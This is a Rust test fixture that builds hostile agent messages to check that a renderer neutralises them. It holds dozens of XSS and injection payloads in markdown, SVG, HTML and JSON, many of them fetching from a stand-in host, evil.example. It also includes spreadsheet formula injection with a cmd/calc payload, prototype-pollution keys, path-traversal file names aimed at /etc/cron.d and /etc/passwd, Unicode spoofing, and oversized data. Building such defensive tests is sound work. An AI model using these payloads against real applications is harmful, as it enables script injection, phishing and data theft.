//! What no honest agent sends: content that would run, lead astray or break what shows it.
//!
//! Invariant: whatever would run calls `window.pwned(…)` or an address at `evil.example`, so that a
//! test sees it.

use a2a::{FileSource, Part};
use serde_json::{Map, Value, json};

use super::{file, inline, text};

/// Markdown that tries to be more.
pub(super) const MARKDOWN: &str = r#"# <script>window.pwned("heading")</script>

<script>window.pwned("block")</script>
<img src=x onerror="window.pwned('img')"> <svg onload="window.pwned('svg')"></svg>
<iframe src="https://evil.example/frame"></iframe> <style>body{display:none}</style>

[run](javascript:window.pwned('link')) [run](JaVaScRiPt:window.pwned(1)) [run](java&#115;cript:window.pwned(2))
[data](data:text/html,<script>opener.pwned(3)</script>) [blob](blob:https://evil.example/x) [file](file:///etc/passwd)
[vb](vbscript:msgbox(1)) [relative](//evil.example/relative) [tab](java	script:window.pwned(4))
<javascript:window.pwned(5)> <https://evil.example/auto>

![pixel](https://evil.example/pixel.png) ![inline](data:image/svg+xml,<svg onload='window.pwned(6)'/>)

[reference][r]

[r]: javascript:window.pwned(7) "title"

| <img src=x onerror=window.pwned(8)> | b |
|---|---|
| [c](javascript:window.pwned(9)) | `<script>window.pwned(10)</script>` |

```html
<script>window.pwned(11)</script>
```

[https://bank.example](https://evil.example/phish)
"#;

/// A picture that tries to run.
const SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="parent.pwned('svg onload')"><script>parent.pwned('svg script');fetch('https://evil.example/svg')</script><image href="https://evil.example/image.png" width="10" height="10"/><style>@import url(https://evil.example/style.css);</style><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/frame"/><img src="https://evil.example/x" onerror="parent.pwned('foreign')"/></body></foreignObject><a xlink:href="javascript:parent.pwned('a')"><circle cx="50" cy="50" r="40" fill="crimson"/></a></svg>"#;

const HTML: &str = "<!doctype html><script>opener.pwned('html');fetch('https://evil.example/html')</script><img src=https://evil.example/html.png onerror=alert(1)><meta http-equiv=refresh content='0;url=https://evil.example/refresh'>";

type Given = (&'static str, &'static str, Vec<Part>);

/// Artifacts, one for each way.
pub(super) fn artifacts(mode: &str) -> Vec<Given> {
    vec![
        (
            "markdown",
            "<b onmouseover=window.pwned('name')>Markdown</b>",
            vec![text(MARKDOWN, "text/markdown")],
        ),
        ("data", "Data", vec![Part::data(data(), mode)]),
        ("files", "Files", files()),
        (
            "deep",
            "Deep and wide",
            vec![Part::data(deep(), mode), Part::data(wide(), mode)],
        ),
        (
            "text",
            "Text",
            vec![
                Part::text(
                    "\u{202e}gnp.elif a ton\u{202c} \u{2066}\u{200b}\u{200d}\u{feff} \u{0} \u{1b}[31m red?",
                ),
                Part::text("x".repeat(10_000)),
            ],
        ),
    ]
}

fn data() -> Value {
    json!({
        "week": "<script>window.pwned('week')</script>",
        "keeper": "a@example.com?bcc=everybody@evil.example&body=<script>",
        "map": "javascript:window.pwned('map')",
        "coverage": 1e300,
        "stations": [
            { "name": "=HYPERLINK(\"https://evil.example/\"&A1)", "celsius": 1, "colour": "url(https://evil.example/colour)", "seen": "\"><img src=x onerror=window.pwned('seen')>" },
            { "name": "@SUM(1+1)*cmd|' /C calc'!A0", "celsius": -1, "colour": "red;background:url(https://evil.example/css)", "state": "<img src=x onerror=window.pwned('state')>" }
        ],
        "__proto__": { "polluted": true },
        "constructor": { "prototype": { "polluted": true } },
        "toString": "not a function",
        "\u{202e}emaN": "a name from right to left",
        "": "no name"
    })
}

fn files() -> Vec<Part> {
    let bytes = |name, media_type, bytes: &str| file(name, media_type, inline(bytes.as_bytes()));
    let elsewhere =
        |name, address: &str| file(name, "image/png", FileSource::Uri(address.to_owned()));
    vec![
        bytes("picture.svg", "image/svg+xml", SVG),
        bytes("page.html", "text/html", HTML),
        bytes(
            "../../../etc/cron.d/\u{202e}gnp.exe",
            "application/octet-stream",
            "MZ",
        ),
        bytes(
            "CON<script>.txt\u{0}.html",
            "text/html;charset=utf-7",
            "+ADw-script+AD4-window.pwned(12)+ADw-/script+AD4-",
        ),
        file(
            "broken.png",
            "image/png",
            FileSource::Bytes("not base64 !!! <script>".to_owned()),
        ),
        file(
            "large.bin",
            "image/png",
            FileSource::Bytes("QUJD".repeat(500_000)),
        ),
        elsewhere("far.png", "https://evil.example/far.png"),
        elsewhere("run.png", "javascript:window.pwned('uri')"),
        elsewhere(
            "data.png",
            "data:text/html,<script>opener.pwned('data')</script>",
        ),
        elsewhere("local.png", "file:///etc/passwd"),
    ]
}

/// As deep as JSON may be here and still be read by others.
fn deep() -> Value {
    (0..100).fold(json!("the bottom"), |inner, level| {
        if level % 2 == 0 {
            json!({ "in": inner })
        } else {
            json!([inner])
        }
    })
}

fn wide() -> Value {
    let members = (0..2_000).map(|at| (format!("key{at:05}"), json!(at)));
    Value::Object(members.collect::<Map<_, _>>())
}
